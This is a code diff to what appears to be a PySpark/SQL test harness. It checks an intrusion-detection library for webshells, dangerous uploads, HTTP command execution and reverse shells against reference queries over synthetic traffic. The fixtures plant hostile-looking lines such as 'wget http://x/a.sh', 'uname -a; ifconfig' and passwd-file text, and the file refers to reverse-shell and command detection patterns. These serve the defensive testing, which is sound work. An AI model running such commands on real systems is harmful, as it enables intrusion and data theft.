@@ -84,15 +84,14 @@ def directory_bruteforce(spark, folder):
 # shell lines planted into conversation turns (fixed values of the adapter)
 SHELL = """CASE (conv_id + turn) % 9 WHEN 0 THEN 'uid=0(root) gid=0(root) ' WHEN 1 THEN 'root:x:0:0:root:/root:' WHEN 2 THEN 'uname -a; ifconfig ' WHEN 3 THEN 'wget http://x/a.sh ' ELSE '' END"""
 TT_SQL = f"""tt AS (SELECT conv_id * 8 + turn AS seq, conv_id * 30000000 + turn * 1000000 AS ts_us, concat('10.5.0.', CAST(conv_id % 7 AS VARCHAR)) AS src_ip, '10.5.1.1' AS dst_ip,
- concat({SHELL}, regexp_replace(text, '[^ -~]', '', 'g')) AS payload FROM conversations)"""
+ concat({SHELL}, text) AS payload FROM conversations)"""
 
 
 def shell_text(spark, folder):
-    plain = F.regexp_replace("text", "[^ -~]", "")
     return table(spark, folder, "conversations").select(
         (F.col("conv_id") * 8 + F.col("turn")).alias("seq"), (F.col("conv_id") * 30000000 + F.col("turn") * 1000000).alias("ts_us"),
         F.concat(F.lit("10.5.0."), (F.col("conv_id") % 7).cast("string")).alias("src_ip"), F.lit("10.5.1.1").alias("dst_ip"),
-        F.encode(F.concat(F.expr(SHELL), plain), "UTF-8").alias("payload"))
+        F.encode(F.concat(F.expr(SHELL), F.col("text")), "UTF-8").alias("payload"))
 
 
 @query("post_exploitation", f"WITH {TT_SQL}, h AS (" + " UNION ALL ".join(
@@ -130,9 +129,7 @@ t AS (SELECT *, ws + php + cmd + CASE WHEN up THEN {_sum_sql(cat.UPLOAD_EXTENSIO
  + CASE WHEN method = 'POST' THEN {' + '.join(f"CAST(contains(lower(uri), '{x}') AS INT)" for x in cat.POST_PATHS)} ELSE 0 END AS threats FROM n)
 SELECT seq, CAST(threats AS BIGINT) AS threats, CAST(least(100, CASE WHEN ws > 0 THEN 80 ELSE 0 END + pts + CASE WHEN up THEN 20 ELSE 0 END + threats * 5) AS BIGINT) AS score FROM t""")
 def http_payload_score(spark, folder):
-    # percent signs would make some pages url-encoded layers; the layers have their own query
-    rows = coded(spark, folder).withColumn("body", F.replace("body", F.lit("%"), F.lit("")))
-    return web.http_payload_score(rows).select("seq", "threats", "score")
+    return web.http_payload_score(coded(spark, folder)).select("seq", "threats", "score")
 
 
 @query("http_payload_type", f"""WITH {CB_SQL} SELECT seq, CASE WHEN {' OR '.join(rx('body', '(?i)' + p) for p, _ in cat.PAYLOAD_PATTERNS)} THEN 'WEBSHELL' WHEN regexp_matches(body, '(?i)<\\?php') THEN 'PHP_SCRIPT'
@@ -141,10 +138,15 @@ def http_payload_type(spark, folder):
     return web.http_payload_type(coded(spark, folder)).select("seq", "payload_type", "sha256")
 
 
-PHP_HITS = " + ".join(f"CAST({rx('body', '(?i)' + p)} AS INT)" for p in cat.PHP_EXECUTION)
+def _hits(patterns):
+    return " + ".join(f"CAST({rx('body', '(?i)' + p)} AS INT)" for p in patterns)
 
 
-@query("webshell_access", f"WITH {CB_SQL} SELECT seq, CASE WHEN {rx('uri', cat.WEBSHELL_FILES)} THEN 'WEBSHELL_ACCESS' ELSE 'WEBSHELL_EXECUTION_PHP' END AS kind FROM cb WHERE {rx('uri', cat.WEBSHELL_FILES)} OR {PHP_HITS} >= 3")
+SHELL_KIND = "CASE WHEN " + rx("uri", cat.WEBSHELL_FILES) + " THEN 'WEBSHELL_ACCESS' " + " ".join(
+    f"WHEN {_hits(patterns)} >= {least} THEN 'WEBSHELL_EXECUTION_{language}'" for language, (patterns, least) in cat.EXECUTION.items()) + " END"
+
+
+@query("webshell_access", f"WITH {CB_SQL} SELECT * FROM (SELECT seq, {SHELL_KIND} AS kind FROM cb) WHERE kind IS NOT NULL")
 def webshell_access(spark, folder):
     return web.webshell_access(coded(spark, folder)).select("seq", F.col("anomaly_type").alias("kind"))
 
@@ -153,15 +155,22 @@ UP_SQL = f"""SELECT seq, ts_us, src_ip, f AS filename FROM (SELECT *, regexp_ext
  WHERE f <> '' AND ({rx('trim(f)', cat.DANGEROUS_NAME)} OR {rx('f', cat.DOUBLE_NAME)})"""
 
 
-@query("dangerous_upload", f"WITH {CB_SQL} {UP_SQL.replace('SELECT seq, ts_us, src_ip, f', 'SELECT seq, f')}".replace("method = 'POST' AND contains(content_type, 'multipart/form-data')", "seq % 2 = 1"))
+@query("dangerous_upload", f"WITH {CB_SQL} {UP_SQL.replace('SELECT seq, ts_us, src_ip, f', 'SELECT seq, f')}".replace("method = 'POST' AND contains(content_type, 'multipart/form-data')", "TRUE"))
 def dangerous_upload(spark, folder):
-    rows = coded(spark, folder).where("seq % 2 = 1").withColumn("method", F.lit("POST")).withColumn("content_type", F.lit("multipart/form-data; boundary=xx"))
+    rows = coded(spark, folder).withColumn("method", F.lit("POST")).withColumn("content_type", F.lit("multipart/form-data; boundary=xx"))
     return web.dangerous_upload(rows).select("seq", F.col("evidence")["filename"].alias("filename"))
 
 
-@query("http_command_execution", f"WITH {CB_SQL}, c AS (SELECT seq, regexp_extract_all(concat(uri, ' ', body), {quoted(cat.COMMANDS)}, 1) AS m FROM cb) SELECT seq, len(m) > 0 AS hit, 'CRITICAL' AS severity FROM c WHERE len(m) > 0 AND seq % 8 IN (1, 2, 4)")
+# the one expression that looks around is stated without doing so; whether it matches is the same
+COMMANDS_SQL = cat.any_of([p for p in cat.COMMAND_PATTERNS if "hostname" not in p] + [r"(?:^|[^\w=])hostname\s*(?:$|[;&|`)])"])
+SERIOUS_SQL = " OR ".join(f"contains(lower(array_to_string(m, chr(10))), {quoted(w)})" for w in cat.SERIOUS_COMMANDS)
+
+
+@query("http_command_execution", f"""WITH {CB_SQL}, t AS (SELECT seq, concat(uri, ' ', body) AS raw, url_decode(replace(concat(uri, ' ', body), '+', ' ')) AS plain FROM cb),
+c AS (SELECT seq, regexp_extract_all(CASE WHEN plain = raw THEN raw ELSE concat(raw, ' ', plain) END, {quoted(COMMANDS_SQL)}, 1) AS m FROM t)
+SELECT seq, len(m) > 0 AS hit, CASE WHEN {SERIOUS_SQL} THEN 'CRITICAL' ELSE 'MEDIUM' END AS severity FROM c WHERE len(m) > 0""")
 def http_command_execution(spark, folder):
-    return web.http_command_execution(coded(spark, folder)).where("seq % 8 IN (1, 2, 4)").select("seq", F.lit(True).alias("hit"), "severity")
+    return web.http_command_execution(coded(spark, folder)).select("seq", F.lit(True).alias("hit"), "severity")
 
 
 @query("http_reverse_shell", f"WITH {CB_SQL} SELECT seq, '10.0.0.9:4444' AS c2_target FROM cb WHERE {rx('body', cat.REVERSE_SHELL)}")
@@ -183,13 +192,13 @@ def http_request_burst(spark, folder):
 
 
 # threat rows derived from alerts: three of the kinds mean upload, access and command
-TH_SQL = f"""{ad.AL_SQL}, th AS (SELECT ts_us, seq, src_ip, CASE k % 12 WHEN 2 THEN 'FILE_UPLOAD_SUSPICIOUS' WHEN 8 THEN 'WEBSHELL_ACCESS' WHEN 0 THEN 'COMMAND_EXECUTION_HTTP' ELSE 'OTHER' END AS kind FROM al WHERE k % 2 = 0)"""
+TH_SQL = f"""{ad.AL_SQL}, th AS (SELECT ts_us, seq, src_ip, CASE k % 12 WHEN 2 THEN 'FILE_UPLOAD_SUSPICIOUS' WHEN 8 THEN 'WEBSHELL_ACCESS' WHEN 0 THEN 'COMMAND_EXECUTION_HTTP' ELSE 'OTHER' END AS kind FROM al)"""
 
 
 def threats(spark, folder):
     k = F.col("k") % 12
     kind = F.when(k == 2, "FILE_UPLOAD_SUSPICIOUS").when(k == 8, "WEBSHELL_ACCESS").when(k == 0, "COMMAND_EXECUTION_HTTP").otherwise("OTHER")
-    return ad.alerts(spark, folder).where("k % 2 = 0").withColumn("anomaly_type", kind).withColumn("_rank", F.lit(0)).withColumn(
+    return ad.alerts(spark, folder).withColumn("anomaly_type", kind).withColumn("_rank", F.lit(0)).withColumn(
         "evidence", F.create_map(F.lit("count"), F.lit("2")))
 
 
@@ -254,6 +263,25 @@ def reassemble_http(spark, folder):
     return http.reassemble_http(turns(spark, folder)).select("src_ip", F.sha2("data", 256).alias("digest"))
 
 
+def reused(spark, folder):
+    """The conversations one after the other over ten client addresses that reuse one port: seen in two captures, sequence
+    numbers that wrap after 500 bytes, every other one opened by a SYN and the rest told apart by silence."""
+    rows = turns(spark, folder).withColumn("_c", F.expr("CAST(substring(src_ip, 2) AS BIGINT)")).withColumn("tcp_flags", F.lit(24))
+    syn = (rows.groupBy("_c", "dst_ip", "src_port", "dst_port").agg(F.min("ts_us").alias("ts_us"), F.min("seq").alias("seq"), F.min("tcp_seq").alias("tcp_seq"))
+           .where("_c div 10 % 2 = 0").select("*", F.lit(b"").alias("payload"), F.lit(2).alias("tcp_flags"), F.concat(F.lit("c"), F.col("_c").cast("string")).alias("src_ip")))
+    rows = rows.unionByName(syn.withColumns({"ts_us": F.col("ts_us") - 5, "tcp_seq": F.col("tcp_seq") - 1}))
+    return (rows.withColumns({"src_ip": F.concat(F.lit("h"), (F.col("_c") % 10).cast("string")), "ts_us": F.expr("ts_us + _c div 10 * 1000000000000"),
+                              "tcp_seq": F.pmod(F.col("tcp_seq") + ((1 << 32) - 1500), F.lit(1 << 32))})
+            .withColumn("capture", F.explode(F.array(F.lit("a"), F.lit("b")))).drop("_c"))
+
+
+@query("http_connections", f"""WITH {BODY_SQL} SELECT capture, concat('h', conv_id % 10) AS src_ip, row_number() OVER (PARTITION BY capture, conv_id % 10 ORDER BY conv_id) AS connection_no,
+ sha256(concat('POST /c/', conv_id, ' HTTP/1.1', chr(13), chr(10), 'Host: h', chr(13), chr(10), 'Content-Length: ', size, chr(13), chr(10), chr(13), chr(10), body)) AS digest
+FROM b, (VALUES ('a'), ('b')) v(capture)""")
+def http_connections(spark, folder):
+    return http.reassemble_http(reused(spark, folder)).select("capture", "src_ip", "connection_no", F.sha2("data", 256).alias("digest"))
+
+
 @query("reassembly_stats", """WITH t AS (SELECT conv_id, turn, octet_length(encode(text)) AS n FROM conversations),
 s AS (SELECT conv_id, count(*) + count(*) FILTER (WHERE turn % 3 = 0) + count(*) FILTER (WHERE turn % 2 = 1 AND n > 2) AS segments, count(*) FILTER (WHERE turn % 3 = 0) AS retransmissions FROM t GROUP BY 1)
 SELECT concat('c', conv_id) AS src_ip, segments, retransmissions FROM s""")
